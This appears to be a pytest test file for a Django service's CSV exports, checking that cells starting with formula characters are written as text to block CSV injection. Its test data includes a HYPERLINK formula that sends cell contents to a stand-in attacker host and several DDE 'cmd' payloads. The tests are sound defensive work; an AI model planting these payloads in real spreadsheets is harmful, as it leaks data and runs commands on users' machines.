"""Every CSV the service writes reaches a spreadsheet: no cell of it may be read as a
formula (CSV injection, OWASP), whoever wrote the text (a key manager's organization name,
a prefix an API client presented), while numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
import time_machine
from django.urls import reverse

from accounts.models import Organization
from audit.csv_download import csv_cell, csv_decimal
from audit.services.usage import usage_summarize
from scoreportal.error_codes import ErrorCode
from scores.tests.fixtures import EXAMPLE_CPF

NOW = datetime(2026, 11, 22, 18, 0, tzinfo=UTC)
HOSTILE_NAME = '=HYPERLINK("https://attacker.example/x?d="&A2&B2,"Banco")'
# A spreadsheet reads a cell as a formula when it starts with one of these.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        pytest.param(HOSTILE_NAME, "'" + HOSTILE_NAME, id="equals"),
        pytest.param("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", id="plus"),
        pytest.param("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", id="minus"),
        pytest.param("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0", id="at"),
        pytest.param("\t=1+1", "'\t=1+1", id="tab"),
        pytest.param("\r=1+1", "'\r=1+1", id="carriage-return"),
        pytest.param("-", "'-", id="a-lone-dash"),
        pytest.param("-1e3", "'-1e3", id="not-a-plain-number"),
        pytest.param("Banco Exemplo", "Banco Exemplo", id="plain-text"),
        pytest.param("a=b", "a=b", id="equals-inside"),
        pytest.param("", "", id="empty"),
        pytest.param("***.982.247-**", "***.982.247-**", id="masked-cpf"),
        pytest.param(742, 742, id="int"),
        pytest.param(-5, -5, id="negative-int"),
        pytest.param(-1.5, -1.5, id="negative-float"),
        pytest.param(Decimal("-0.25"), Decimal("-0.25"), id="negative-decimal"),
        pytest.param(None, None, id="none"),
        pytest.param("-12", "-12", id="negative-number-as-text"),
        pytest.param("-1,5", "-1,5", id="negative-decimal-as-text-pt-br"),
        pytest.param("-1.5", "-1.5", id="negative-decimal-as-text-en"),
    ],
)
def test_if_a_cell_could_be_read_as_a_formula_then_it_is_written_as_text(value, written):
    assert csv_cell(value) == written


def test_if_a_negative_figure_is_written_then_it_stays_a_number():
    assert csv_cell(csv_decimal(-12.34)) == csv_decimal(-12.34)


def _rows(response):
    body = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(body), delimiter=";"))


def _assert_no_formula(rows):
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE_NAME in cells  # the name is there, as text
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.fixture
def hostile(record, issue_key):
    """A key manager named an organization with a formula; its key was used, and an API
    client presented a formula as its key's prefix."""
    organization = Organization.objects.create(name=HOSTILE_NAME, slug="hostile")
    key, _plaintext = issue_key(organization=organization, name="@SUM(1+9)")
    record(EXAMPLE_CPF, at=NOW - timedelta(days=1), api_key=key)
    record(
        None,
        at=NOW - timedelta(days=1),
        error=ErrorCode.INVALID_API_KEY,
        presented_key_prefix="=1+2",
    )
    usage_summarize(now=NOW)
    with time_machine.travel(NOW, tick=False):
        yield organization


def test_if_an_organization_is_named_with_a_formula_then_the_audit_export_writes_it_as_text(
    auditor_client, hostile, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):  # the export's task, in-process
        started = auditor_client.post(reverse("admin:scores_consultation_export"))
    export_id = started["Location"].rstrip("/").split("/")[-2]
    response = auditor_client.post(reverse("admin:audit_auditexport_download", args=[export_id]))

    assert response.status_code == 200
    rows = _rows(response)
    _assert_no_formula(rows)
    assert "'=1+2" in [cell for row in rows for cell in row]


def test_if_an_organization_is_named_with_a_formula_then_the_usage_csv_writes_it_as_text(
    auditor_client, hostile
):
    response = auditor_client.get(
        reverse("admin:audit_usagereport_changelist"),
        {"since": "2026-11-01", "until": "2026-11-22", "organization": "", "format": "csv"},
    )

    assert response.status_code == 200
    _assert_no_formula(_rows(response))


def test_if_an_organization_is_named_with_a_formula_then_the_cpf_report_csv_writes_it_as_text(
    auditor_client, hostile
):
    response = auditor_client.post(
        reverse("admin:audit_cpfreport_changelist"),
        {
            "cpf": EXAMPLE_CPF,
            "since": "2026-11-01",
            "until": "2026-11-22",
            "output": "csv",
            "reason": "protocolo 2026-118",
        },
    )

    assert response.status_code == 200
    _assert_no_formula(_rows(response))
